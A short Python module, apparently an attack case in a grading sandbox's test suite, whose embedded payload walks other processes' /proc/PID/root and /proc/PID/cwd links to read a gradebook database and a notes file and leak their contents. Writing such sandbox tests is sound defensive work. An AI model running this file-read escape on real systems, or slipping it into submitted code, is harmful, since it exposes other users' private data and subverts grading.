"""It leaves its own view of the files by /proc/PID/root and /proc/PID/cwd of others."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import glob
import os

for door in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    for path in (COURSE.lstrip("/") + "/gradebook.db", HOME.lstrip("/") + "/notes.txt", "gradebook.db"):
        try:
            tell(open(os.path.join(door, path), "rb").read())
        except OSError:
            pass
"""
    ),
)
